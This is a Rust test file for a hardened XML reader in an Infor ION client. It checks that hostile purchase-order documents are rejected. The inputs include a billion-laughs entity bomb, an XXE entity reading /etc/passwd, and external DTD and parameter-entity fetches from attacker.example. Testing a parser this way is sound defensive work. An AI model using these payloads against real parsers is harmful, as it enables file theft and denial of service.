#![allow(clippy::unwrap_used)]
//! The hardened reader refuses hostile input with a precise error, and never reads (so never
//! buffers) much more than the document size limit.

use std::io::{BufRead, BufReader, Read};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use infor_ion_client::bod::{AnyBod, Bod, BodError, BodLimits, PurchaseOrder};

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/bod/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap()
}

fn parse(xml: &str) -> Result<Bod<PurchaseOrder>, BodError> {
    Bod::<PurchaseOrder>::from_str(xml)
}

/// A source that yields `prefix`, then `filler` forever, counting the bytes handed out.
struct Endless {
    prefix: Vec<u8>,
    pos: usize,
    filler: u8,
    served: Arc<AtomicUsize>,
}

impl Read for Endless {
    fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
        let n = out.len();
        for b in out.iter_mut() {
            *b = if self.pos < self.prefix.len() {
                self.prefix[self.pos]
            } else {
                self.filler
            };
            self.pos += 1;
        }
        self.served.fetch_add(n, Ordering::SeqCst);
        Ok(n)
    }
}

fn endless(prefix: &str, filler: u8) -> (impl BufRead, Arc<AtomicUsize>) {
    let served = Arc::new(AtomicUsize::new(0));
    let src = Endless {
        prefix: prefix.as_bytes().to_vec(),
        pos: 0,
        filler,
        served: Arc::clone(&served),
    };
    (BufReader::with_capacity(8 * 1024, src), served)
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2"><ApplicationArea><BODID>&lol9;</BODID></ApplicationArea></SyncPurchaseOrder>"#;

#[test]
fn billion_laughs_is_rejected_at_the_doctype() {
    match parse(BILLION_LAUGHS).unwrap_err() {
        BodError::DtdRejected { position } => {
            // Rejected right after the DOCTYPE: nothing after it was read, nothing expanded.
            let doctype_end = BILLION_LAUGHS.find("]>").unwrap() + 2;
            assert_eq!(position as usize, doctype_end);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn external_entities_are_rejected() {
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE SyncPurchaseOrder [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2">&xxe;</SyncPurchaseOrder>"#;
    assert!(matches!(parse(xxe), Err(BodError::DtdRejected { .. })));

    let external_dtd = r#"<?xml version="1.0"?>
<!DOCTYPE SyncPurchaseOrder SYSTEM "http://attacker.example/evil.dtd">
<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2"/>"#;
    assert!(matches!(
        parse(external_dtd),
        Err(BodError::DtdRejected { .. })
    ));

    let parameter_entity =
        r#"<!DOCTYPE x [ <!ENTITY % p SYSTEM "http://attacker.example/p"> %p; ]><x/>"#;
    assert!(matches!(
        parse(parameter_entity),
        Err(BodError::DtdRejected { .. })
    ));
}

#[test]
fn undeclared_entity_references_are_rejected_in_text_and_attributes() {
    let po = fixture("sync_purchase_order_m3.xml");
    let in_text = po.replace(
        "<DisplayID>4000123</DisplayID>",
        "<DisplayID>&xxe;</DisplayID>",
    );
    match parse(&in_text).unwrap_err() {
        BodError::EntityRejected { name, .. } => assert_eq!(name, "xxe"),
        other => panic!("{other:?}"),
    }
    let in_attr = po.replace("currencyID=\"EUR\">4600.00", "currencyID=\"&xxe;\">4600.00");
    match parse(&in_attr).unwrap_err() {
        BodError::EntityRejected { name, .. } => assert_eq!(name, "xxe"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn deep_nesting_is_rejected_at_the_limit() {
    let depth = 10_000;
    let mut xml =
        String::from(r#"<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2">"#);
    for _ in 0..depth {
        xml.push_str("<a>");
    }
    for _ in 0..depth {
        xml.push_str("</a>");
    }
    xml.push_str("</SyncPurchaseOrder>");
    match parse(&xml).unwrap_err() {
        BodError::TooDeep { depth, limit, .. } => {
            assert_eq!(limit, 64);
            assert_eq!(depth, 65, "rejected as soon as the limit is crossed");
        }
        other => panic!("{other:?}"),
    }
    // Self-closing elements count too.
    let limits = BodLimits {
        max_depth: 3,
        ..BodLimits::default()
    };
    let shallow = r#"<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2"><a><b/></a></SyncPurchaseOrder>"#;
    assert!(matches!(
        Bod::<PurchaseOrder>::from_reader(shallow.as_bytes(), limits),
        Err(BodError::MissingElement { .. })
    ));
    let deeper = shallow.replace("<b/>", "<b><c/></b>");
    assert!(matches!(
        Bod::<PurchaseOrder>::from_reader(deeper.as_bytes(), limits),
        Err(BodError::TooDeep {
            depth: 4,
            limit: 3,
            ..
        })
    ));
}

#[test]
fn huge_text_is_rejected_and_names_the_element() {
    let po = fixture("sync_purchase_order_m3.xml");
    let big = "x".repeat(2 * 1024 * 1024);
    let xml = po.replace(
        "<DisplayID>4000123</DisplayID>",
        &format!("<DisplayID>{big}</DisplayID>"),
    );
    match parse(&xml).unwrap_err() {
        BodError::ValueTooLong {
            what, path, limit, ..
        } => {
            assert_eq!(what, "text");
            assert_eq!(limit, 1024 * 1024);
            assert_eq!(
                path,
                "/SyncPurchaseOrder/DataArea/PurchaseOrder/PurchaseOrderHeader/DisplayID"
            );
        }
        other => panic!("{other:?}"),
    }
    // Many small references add up and are caught by the same limit.
    let limits = BodLimits {
        max_text_bytes: 1000,
        ..BodLimits::default()
    };
    let refs = "&amp;".repeat(1001);
    let xml = po.replace(
        "<DisplayID>4000123</DisplayID>",
        &format!("<DisplayID>{refs}</DisplayID>"),
    );
    assert!(matches!(
        Bod::<PurchaseOrder>::from_reader(xml.as_bytes(), limits),
        Err(BodError::ValueTooLong { .. })
    ));
}

#[test]
fn huge_attribute_is_rejected() {
    let po = fixture("sync_purchase_order_m3.xml");
    let big = "9".repeat(100 * 1024);
    let xml = po.replace(
        "variationID=\"1727170389770\"",
        &format!("variationID=\"{big}\""),
    );
    match parse(&xml).unwrap_err() {
        BodError::ValueTooLong {
            what, limit, path, ..
        } => {
            assert_eq!(what, "attribute variationID");
            assert_eq!(limit, 64 * 1024);
            assert!(path.ends_with("/DocumentID/ID"), "{path}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn oversized_document_is_rejected() {
    let po = fixture("sync_purchase_order_m3.xml");
    // Many modest elements: no single value is too long, but the whole is over 5 MiB.
    let filler = "<Pad>0123456789</Pad>".repeat(300_000);
    let xml = po.replace("<DisplayID>", &format!("{filler}<DisplayID>"));
    assert!(xml.len() > 5 * 1024 * 1024);
    assert!(matches!(
        parse(&xml),
        Err(BodError::TooLarge { limit }) if limit == 5 * 1024 * 1024
    ));
    // A smaller configured limit applies to the fixture itself.
    let limits = BodLimits {
        max_document_bytes: 1024,
        ..BodLimits::default()
    };
    assert!(matches!(
        Bod::<PurchaseOrder>::from_reader(po.as_bytes(), limits),
        Err(BodError::TooLarge { limit: 1024 })
    ));
    // Exactly at the limit is fine.
    let exact = BodLimits {
        max_document_bytes: po.len(),
        ..BodLimits::default()
    };
    Bod::<PurchaseOrder>::from_reader(po.as_bytes(), exact).unwrap();
}

/// Memory stays bounded by construction: on an endless stream the reader stops pulling input
/// once the document budget is spent, so it can never have buffered more than that.
#[test]
fn endless_input_is_cut_off_at_the_size_limit() {
    let limits = BodLimits {
        max_document_bytes: 256 * 1024,
        ..BodLimits::default()
    };
    let budget = limits.max_document_bytes + 8 * 1024 + 1;

    // Endless text content (with a text cap above the document cap, so the size cap trips).
    let text_limits = BodLimits {
        max_text_bytes: 10 * 1024 * 1024,
        ..limits
    };
    let (src, served) = endless(
        r#"<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2"><BODID>"#,
        b'x',
    );
    let err = Bod::<PurchaseOrder>::from_reader(src, text_limits).unwrap_err();
    assert!(matches!(err, BodError::TooLarge { .. }), "{err:?}");
    assert!(
        served.load(Ordering::SeqCst) <= budget + 8 * 1024,
        "read {served:?}"
    );

    // Endless sibling elements.
    let (src, served) = endless(
        r#"<SyncPurchaseOrder xmlns="http://schema.infor.com/InforOAGIS/2">"#,
        b' ',
    );
    let err = AnyBod::from_reader(src, limits).unwrap_err();
    assert!(matches!(err, BodError::TooLarge { .. }), "{err:?}");
    assert!(served.load(Ordering::SeqCst) <= budget + 8 * 1024);

    // An endless DOCTYPE never gets to be a DtdRejected: the size cap trips first.
    let (src, served) = endless("<!DOCTYPE x [ <!ENTITY a \"", b'a');
    let err = Bod::<PurchaseOrder>::from_reader(src, limits).unwrap_err();
    assert!(matches!(err, BodError::TooLarge { .. }), "{err:?}");
    assert!(served.load(Ordering::SeqCst) <= budget + 8 * 1024);
}

#[test]
fn non_utf8_is_rejected_clearly() {
    let po = fixture("sync_purchase_order_m3.xml");

    // Declared other encoding.
    let latin1 = po.replacen("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"", 1);
    match parse(&latin1).unwrap_err() {
        BodError::NotUtf8 { detail, .. } => assert!(detail.contains("ISO-8859-1"), "{detail}"),
        other => panic!("{other:?}"),
    }
    // Lower-case utf-8 is fine.
    parse(&po.replacen("encoding=\"UTF-8\"", "encoding=\"utf-8\"", 1)).unwrap();

    // Invalid byte sequence (a Latin-1 é in text) without any declaration.
    let mut bytes = po.replace("<CityName>Lyon", "<CityName>Ly@n").into_bytes();
    let at = bytes.windows(4).position(|w| w == b"Ly@n").unwrap() + 2;
    bytes[at] = 0xE2; // lone lead byte
    match Bod::<PurchaseOrder>::from_slice(&bytes).unwrap_err() {
        BodError::NotUtf8 { .. } => {}
        other => panic!("{other:?}"),
    }

    // UTF-16 with a byte-order mark.
    let mut utf16 = vec![0xFF, 0xFE];
    for u in po.encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    match Bod::<PurchaseOrder>::from_slice(&utf16).unwrap_err() {
        BodError::NotUtf8 { detail, position } => {
            assert!(detail.contains("UTF-16"), "{detail}");
            assert_eq!(position, 0);
        }
        other => panic!("{other:?}"),
    }

    // A UTF-8 byte-order mark is fine.
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(po.as_bytes());
    Bod::<PurchaseOrder>::from_slice(&bom).unwrap();
}

#[test]
fn malformed_xml_reports_a_position() {
    let po = fixture("sync_purchase_order_m3.xml");
    let broken = po.replace("</DisplayID>", "</Display>");
    match parse(&broken).unwrap_err() {
        BodError::Xml { position, message } => {
            assert!(position > 0);
            assert!(!message.is_empty());
        }
        other => panic!("{other:?}"),
    }
    let truncated = &po[..po.len() / 2];
    assert!(matches!(parse(truncated), Err(BodError::Xml { .. })));
    let unbound = po
        .replace("<DisplayID>", "<x:DisplayID>")
        .replace("</DisplayID>", "</x:DisplayID>");
    assert!(matches!(
        parse(&unbound),
        Err(BodError::Xml { message, .. }) if message.contains("prefix")
    ));
    assert!(matches!(parse(""), Err(BodError::Xml { .. })));
}

#[test]
fn errors_are_classified() {
    let e = parse(BILLION_LAUGHS).unwrap_err();
    assert!(e.is_reader_error());
    assert!(!e.is_retryable());
    // Display says what went wrong without dumping the document.
    let msg = e.to_string();
    assert!(msg.contains("DOCTYPE"), "{msg}");
    assert!(!msg.contains("lol"), "{msg}");
}
